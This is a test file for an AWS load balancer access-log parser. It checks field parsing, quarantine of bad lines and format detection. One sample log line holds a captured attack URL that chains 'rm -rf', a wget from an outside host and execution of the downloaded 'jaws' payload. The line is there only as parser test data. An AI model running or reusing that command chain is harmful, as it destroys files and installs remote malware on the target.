import { join } from 'node:path';
import { Readable } from 'node:stream';
import { source as alb } from '../../etl/sources/alb/parser';
import type { ParsedItem } from '../../etl/sources/types';
import { goldenDir, parseFile } from './golden';

/** A row's cells, read by column name. */
type Row = Readonly<Record<string, unknown>>;

async function parse(text: string, key = '/tmp/elb.log'): Promise<ParsedItem[]> {
  const items: ParsedItem[] = [];
  for await (const item of alb.parse(Readable.from([Buffer.from(text)]), { key })) items.push(item);
  return items;
}

function rows(items: ParsedItem[]): Row[] {
  return items.flatMap((i) => (i.kind === 'rows' ? i.rows.map((r) => r.row) : []));
}

const HTTPS = 'https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90';
const CLASSIC_TCP = '2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.001069 0.000028 0.000041 - - 82 305 "- - - " "-" - -';

describe('alb records', () => {
  test('client and target split into address and port; codes, bytes and times are numbers', async () => {
    const [row] = rows(await parse(`${HTTPS}\n`));
    expect(row).toMatchObject({
      time: new Date('2018-07-02T22:23:00.186Z'),
      src_ip: '192.168.131.39',
      dst_ip: '10.0.0.1',
      dst_port: 80,
      status: 200,
      outcome: 'success',
      bytes_in: 0,
      bytes_out: 57,
      duration_ms: 171,
      http_method: 'GET',
      url: 'https://www.example.com:443/',
      host: 'www.example.com',
      path: '/',
      user_agent: 'curl/7.46.0',
      tls_protocol: 'TLSv1.2',
      // From the target group ARN.
      account: '123456789012',
      region: 'us-east-2',
      resources: [
        'arn:aws:elasticloadbalancing:us-east-2:123456789012:loadbalancer/app/my-loadbalancer/50dc6c495c0c9188',
        'arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067',
      ],
    });
  });

  test('-1 processing times give no duration; `-` target gives no destination', async () => {
    const line = 'http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell" "-" "-" "-" "Acceptable" "SpaceInUri"';
    const [row] = rows(await parse(`${line}\n`));
    expect(row).toMatchObject({
      duration_ms: null,
      dst_ip: null,
      dst_port: null,
      status: 301,
      // A URL with a space in it still splits into method, URL and version.
      http_method: 'GET',
      url: 'http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws',
      path: '/shell',
      user_agent: 'Hello, world',
      account: 'unknown',
      region: 'unknown',
      resources: ['app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e'],
    });
  });

  test('account and region come from the key when the line has no target group', async () => {
    const key = 's3://logs/prefix/AWSLogs/123456789012/elasticloadbalancing/eu-west-1/2015/05/13/123456789012_elasticloadbalancing_eu-west-1_my-loadbalancer_20150513T2340Z_172.160.001.192_20sg8hgm.log';
    const [row] = rows(await parse(`${CLASSIC_TCP}\n`, key));
    expect(row).toMatchObject({ account: '123456789012', region: 'eu-west-1', resources: ['arn:aws:elasticloadbalancing:eu-west-1:123456789012:loadbalancer/my-loadbalancer'] });
  });

  test('Classic ELB TCP listener lines: no method, no status, outcome unknown', async () => {
    const [row] = rows(await parse(`${CLASSIC_TCP}\n`));
    expect(row).toMatchObject({ http_method: null, url: null, status: null, outcome: 'unknown', bytes_in: 82, bytes_out: 305, src_ip: '192.168.131.39', dst_port: 80, user_agent: null });
  });

  test('a Lambda failure is a failure with its error reason', async () => {
    const line = 'http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - 0.000 0.001 0.000 502 - 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 2018-11-30T22:22:48.364000Z "forward" "-" "LambdaInvalidResponse"';
    const [row] = rows(await parse(`${line}\n`));
    expect(row).toMatchObject({ status: 502, outcome: 'failure', error_code: 'LambdaInvalidResponse' });
  });

  test('fields AWS appends later are tolerated', async () => {
    const items = await parse(`${HTTPS} "-" "-" "-" 203.0.113.9 "x" "y"\n`);
    expect(items[0].kind).toBe('rows');
  });

  test('bad lines are quarantined with line and reason; good lines survive', async () => {
    const items = await parseFile(alb, join(goldenDir(alb), 'bad-lines.log'));
    expect(items.map((i) => i.kind)).toEqual(['rows', 'quarantine', 'quarantine', 'quarantine', 'quarantine', 'quarantine', 'quarantine', 'rows']);
    const reasons = items.flatMap((i) => (i.kind === 'quarantine' ? [`${i.position}: ${i.reason}`] : []));
    expect(reasons).toEqual([
      expect.stringMatching(/^line 2: unterminated quoted field/),
      'line 3: Application Load Balancer line has 10 fields, expected at least 16',
      "line 4: elb_status_code 'OK' is not a non-negative integer",
      "line 5: processing time 'fast' is not a number",
      "line 6: time '2018-13-02T22:23:00.186641Z' is not an ISO 8601 timestamp",
      "line 7: not an Application or Classic Load Balancer access log line (type 'tls')",
    ]);
  });
});

describe('alb detection', () => {
  const detect = (head: string, key = '/x') => {
    const d = alb.detect({ key, head });
    return 'confidence' in d ? d.confidence : -1;
  };
  test('ALB and Classic ELB lines are recognized, other formats are not', () => {
    expect(detect(`${HTTPS}\n`)).toBeGreaterThanOrEqual(0.9);
    expect(detect(`${CLASSIC_TCP}\n`)).toBeGreaterThanOrEqual(0.9);
    expect(detect('tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 192.168.131.39:2817 10.0.0.1:80 5 2 98 246 -\n')).toBe(0);
    expect(detect('2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 "CN=x" NotBefore=2023 FEF257372D5C14D4 Success\n')).toBe(0);
    expect(detect('2 123456789010 eni-1235b8ca123456789 172.31.16.139 172.31.16.21 20641 22 6 20 4249 1418530010 1418530070 ACCEPT OK\n')).toBe(0);
    expect(detect('#Version: 1.0\n')).toBe(0);
  });
});
